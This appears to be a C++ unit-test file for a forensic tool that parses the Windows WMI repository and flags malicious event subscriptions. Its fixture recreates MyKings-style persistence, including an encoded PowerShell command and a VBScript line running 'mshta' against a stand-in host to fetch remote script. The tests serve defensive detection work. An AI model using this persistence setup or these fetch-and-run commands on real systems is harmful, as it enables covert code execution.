#include <map>

#include <gtest/gtest.h>

#include "detect/heuristics/wmi_subscriptions.h"
#include "formats/wmi/wmi_repository.h"
#include "normalize/windows_wmi.h"
#include "support/wmi_writer.h"

namespace msw::formats::wmi {
namespace {

using test::WmiInstanceSpec;

// MyKings' shape (Guardicore's write-up): a timer-like filter, a command-line consumer and their binding, plus an
// older consumer left in free space and Windows' own BVT consumer.
std::vector<WmiInstanceSpec> mykings() {
  return {
      {"__EventFilter",
       {"root\\cimv2", "fuckyoumm3", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                                     "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200",
        "WQL"}},
      {"CommandLineEventConsumer",
       {"cmd /c powershell.exe -nop -enc JABzAD0AJwBoAHQAdABwADoALwAvAHcAbwByAGsALgBtAHkAawBpAG4AZwBzAC4AdABvAHAAJwA=",
        "fuckyoumm4", "C:\\Windows\\System32\\cmd.exe"}},
      {"__FilterToConsumerBinding",
       {"\\\\.\\root\\subscription:CommandLineEventConsumer.Name=\"fuckyoumm4\"", "__EventFilter.Name=\"fuckyoumm3\""}},
      {"ActiveScriptEventConsumer", {"old_consumer", "VBScript", "CreateObject(\"WScript.Shell\").Run \"mshta http://x.example/v.sct\""}, false},
      {"CommandLineEventConsumer", {"BVTConsumer", "cscript KernCap.vbs", "C:\\tools\\kernrate"}},
  };
}

TEST(WmiRepository, RecoversFiltersConsumersAndBindings) {
  const std::string data = test::write_objects_data(mykings());
  Diagnostics diags;
  auto repo = read_subscriptions(as_bytes(data), "OBJECTS.DATA", diags);
  ASSERT_TRUE(repo) << repo.error().message;
  EXPECT_TRUE(repo->vista_or_later);
  EXPECT_EQ(repo->descriptors, 4u);  // the ActiveScript consumer is not listed
  ASSERT_EQ(repo->instances.size(), 5u);
  const Instance* filter = nullptr;
  const Instance* consumer = nullptr;
  const Instance* binding = nullptr;
  const Instance* script = nullptr;
  for (const auto& in : repo->instances) {
    if (in.kind == ClassKind::EventFilter) filter = &in;
    if (in.kind == ClassKind::CommandLineConsumer && in.name == "fuckyoumm4") consumer = &in;
    if (in.kind == ClassKind::Binding) binding = &in;
    if (in.kind == ClassKind::ActiveScriptConsumer) script = &in;
  }
  ASSERT_TRUE(filter && consumer && binding && script);
  EXPECT_EQ(filter->name, "fuckyoumm3");
  EXPECT_TRUE(filter->query.starts_with("SELECT * FROM __InstanceModificationEvent WITHIN 60"));
  EXPECT_EQ(filter->query_language, "WQL");
  EXPECT_EQ(filter->event_namespace, "root\\cimv2");
  EXPECT_FALSE(filter->recovered);
  EXPECT_TRUE(consumer->command.starts_with("cmd /c powershell.exe -nop -enc"));
  EXPECT_EQ(consumer->executable, "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(binding->filter, "fuckyoumm3");
  EXPECT_EQ(binding->consumer, "fuckyoumm4");
  EXPECT_EQ(binding->consumer_class, "CommandLineEventConsumer");
  EXPECT_TRUE(script->recovered);
  EXPECT_EQ(script->name, "old_consumer");
  EXPECT_EQ(script->script_engine, "VBScript");
  EXPECT_TRUE(script->command.find("mshta http://x.example/v.sct") != std::string::npos);
}

TEST(WmiRepository, ReadsWindowsXpDigestsAndUtf16Names) {
  const std::string data = test::write_objects_data(
      {{"__EventFilter", {"过滤器", "select * from __TimerEvent where TimerID=\"t\"", "WQL", "root\\subscription"}}},
      /*sha256=*/false);
  Diagnostics diags;
  auto repo = read_subscriptions(as_bytes(data), "OBJECTS.DATA", diags);
  ASSERT_TRUE(repo);
  EXPECT_FALSE(repo->vista_or_later);
  ASSERT_EQ(repo->instances.size(), 1u);
  EXPECT_EQ(repo->instances[0].name, "过滤器");
  EXPECT_EQ(repo->instances[0].query, "select * from __TimerEvent where TimerID=\"t\"");
}

TEST(WmiRepository, RefusesOtherFilesAndSurvivesDamage) {
  Diagnostics diags;
  const std::string text(20000, 'a');
  auto r = read_subscriptions(as_bytes(text), "x", diags);
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, "wmi.not_objects_data");
  const std::string data = test::write_objects_data(mykings());
  // Cut anywhere, or flip bits: never out of bounds (ASan), never more instances than written.
  for (size_t cut = 0; cut < 9000; cut += 37) {
    Diagnostics d;
    if (auto repo = read_subscriptions(as_bytes(data.substr(0, cut)), "x", d)) {
      EXPECT_LE(repo->instances.size(), 5u);
    }
  }
  for (size_t bit = 0; bit < 6000 * 8; bit += 11) {
    std::string flipped = data;
    flipped[bit / 8] = static_cast<char>(flipped[bit / 8] ^ (1 << (bit % 8)));
    Diagnostics d;
    if (auto repo = read_subscriptions(as_bytes(flipped), "x", d)) {
      EXPECT_LE(repo->instances.size(), 5u);
    }
  }
}

TEST(WmiRepository, SubscriptionsBecomeSysmonShapedEventsAndFindings) {
  const std::string data = test::write_objects_data(mykings());
  Diagnostics diags;
  std::vector<model::Event> events;
  ASSERT_TRUE(normalize::wmi_subscription_events(as_bytes(data), "C/Windows/System32/wbem/Repository/OBJECTS.DATA",
                                                 diags, events));
  ASSERT_EQ(events.size(), 5u);
  size_t bindings = 0;
  for (const auto& e : events) {
    EXPECT_EQ(e.category, "wmi_event");
    if (e.value(model::Field::EventType) == "WmiBindingEvent") {
      ++bindings;
      EXPECT_EQ(e.value("Filter"), "__EventFilter.Name=\"fuckyoumm3\"");
      EXPECT_EQ(e.value("Consumer"), "CommandLineEventConsumer.Name=\"fuckyoumm4\"");
    }
  }
  EXPECT_EQ(bindings, 1u);
  auto engine = detect::heuristics::make_wmi_subscription_engine(nullptr);
  std::vector<model::Finding> findings;
  engine->scan_artefact({"OBJECTS.DATA", "0", "wmi_repository", "windows", "", events}, findings);
  std::map<std::string, model::Severity> by_title;
  for (const auto& f : findings)
    if (f.rule_id == detect::heuristics::kWmiSubscriptionRule) by_title[f.title_en.substr(0, f.title_en.find(':'))] = f.severity;
  // Windows 7's own BVTConsumer (KernCap.vbs) is no finding.
  ASSERT_EQ(by_title.size(), 2u);
  EXPECT_EQ(by_title.at("WMI event subscription fuckyoumm3 -> fuckyoumm4"), model::Severity::High);
  EXPECT_EQ(by_title.at("WMI event consumer old_consumer (not bound to a filter)"), model::Severity::Medium);
}

}  // namespace
}  // namespace msw::formats::wmi

namespace msw {
namespace {

TEST(WmiTable, LiveSubscriptionsBecomeTheSameEvents) {
  const std::string table =
      "{\"class\":\"__EventFilter\",\"Name\":\"fuckyoumm3\",\"Query\":\"SELECT * FROM __InstanceModificationEvent\","
      "\"QueryLanguage\":\"WQL\",\"EventNamespace\":\"root\\\\cimv2\"}\n"
      "not json\n"
      "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\n"
      "{\"class\":\"ActiveScriptEventConsumer\",\"Name\":\"s\",\"ScriptText\":\"CreateObject(\\\"WScript.Shell\\\")\","
      "\"ScriptingEngine\":\"VBScript\"}\n"
      "{\"class\":\"NTEventLogEventConsumer\",\"Name\":\"log\"}\n"
      "{\"class\":\"__FilterToConsumerBinding\",\"Filter\":\"__EventFilter.Name=\\\"fuckyoumm3\\\"\","
      "\"Consumer\":\"\\\\\\\\.\\\\root\\\\subscription:ActiveScriptEventConsumer.Name=\\\"s\\\"\"}\n";
  Diagnostics diags;
  std::vector<model::Event> out;
  normalize::wmi_table_events(as_bytes(std::string_view(table)), "tables/wmi_subscriptions.jsonl", diags, out);
  ASSERT_EQ(out.size(), 3u);  // the event-log consumer runs nothing; the two bad lines are one diagnostic
  EXPECT_EQ(diags.size(), 1u);
  EXPECT_EQ(out[0].value(model::Field::EventType), "WmiFilterEvent");
  EXPECT_EQ(out[0].value("Name"), "fuckyoumm3");
  EXPECT_EQ(out[0].value("EventNamespace"), "root\\cimv2");
  EXPECT_EQ(out[1].value("Type"), "Script");
  EXPECT_EQ(out[1].value("ScriptingEngine"), "VBScript");
  EXPECT_EQ(out[2].value(model::Field::EventType), "WmiBindingEvent");
  EXPECT_EQ(out[2].value("Consumer"), "ActiveScriptEventConsumer.Name=\"s\"");
  EXPECT_EQ(out[2].value("FilterName"), "fuckyoumm3");
  EXPECT_EQ(out[2].value("ConsumerName"), "s");
  for (const auto& e : out) EXPECT_EQ(e.product, "windows");
}

}  // namespace
}  // namespace msw
